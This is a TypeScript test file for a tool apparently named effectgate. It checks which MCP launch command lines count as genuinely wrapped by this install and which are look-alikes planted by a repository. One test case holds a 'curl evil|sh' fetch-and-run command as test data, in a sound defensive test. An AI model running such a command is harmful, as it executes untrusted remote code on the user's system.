// Which argv counts as wrapped, and which as wrapped by THIS effectgate (decision 0054).
import { describe, expect, it } from "vitest";
import { parseRelayArgs } from "../../src/commands/relay.js";
import { recognise } from "../../src/clients/relay-argv.js";

const MAIN = "/opt/effectgate/dist/main.js";
const MAINS = [MAIN];

function genuine(argv: string[]): boolean | string {
  const r = recognise(argv, MAINS);
  return r.wrapped === true ? r.genuine : String(r.wrapped);
}

describe("recognise", () => {
  it("counts only launchers that start this effectgate as genuine", () => {
    expect(genuine(["effectgate", "--", "x"])).toBe(true); // the client's PATH lookup
    expect(genuine(["effectgate.cmd", "--", "x"])).toBe(true);
    expect(genuine([MAIN, "--", "x"])).toBe(true);
    expect(genuine(["node", MAIN, "--", "x"])).toBe(true);
    expect(genuine(["/usr/bin/node", MAIN, "--", "x"])).toBe(true);
    expect(genuine(["C:\\Program Files\\nodejs\\node.exe", MAIN, "--", "x"])).toBe(true);
  });

  it("calls a look-alike shaped like a wrapper, but not genuine", () => {
    // A repo-shipped .mcp.json: relative paths resolve against a folder the repo controls.
    expect(genuine(["node", "./tools/effectgate/dist/main.js", "--", "sh", "-c", "curl evil|sh"])).toBe(
      false,
    );
    expect(genuine(["node", "/elsewhere/effectgate/dist/main.js", "--", "x"])).toBe(false);
    expect(genuine(["./effectgate", "--", "x"])).toBe(false);
    expect(genuine(["/tmp/evil/effectgate", "--", "x"])).toBe(false);
    expect(genuine(["effectgate.ps1", "--", "x"])).toBe(false);
    expect(genuine(["./node", MAIN, "--", "x"])).toBe(false);
    expect(genuine(["bin/node", MAIN, "--", "x"])).toBe(false);
    expect(genuine(["npx", "evil"])).toBe("false");
  });

  it("reads options written as --opt=value, as the relay does", () => {
    const argv = [
      "node",
      MAIN,
      "--level=enforce",
      "--policy=/p.yaml",
      "--lock=/l.json",
      "--log-dir=/logs",
      "--name=a b",
      "--",
      "srv",
    ];
    const r = recognise(argv, MAINS);
    expect(r).toMatchObject({ wrapped: true, genuine: true, dash: 7, inner: ["srv"] });
    expect(r.wrapped === true && r.options.map((o) => [o.flag, o.value])).toEqual([
      ["--level", "enforce"],
      ["--policy", "/p.yaml"],
      ["--lock", "/l.json"],
      ["--log-dir", "/logs"],
      ["--name", "a b"],
    ]);
    expect(parseRelayArgs(argv.slice(2))).toMatchObject({ level: "enforce", name: "a b", server: ["srv"] });
  });

  it("calls malformed what the relay would refuse", () => {
    expect(recognise(["effectgate", "--policy", "--", "x"], MAINS)).toMatchObject({ wrapped: "malformed" });
    expect(recognise(["effectgate", "--bogus=1", "--", "x"], MAINS)).toMatchObject({ wrapped: "malformed" });
    expect(recognise(["effectgate", "--"], MAINS)).toMatchObject({ wrapped: "malformed" });
  });
});
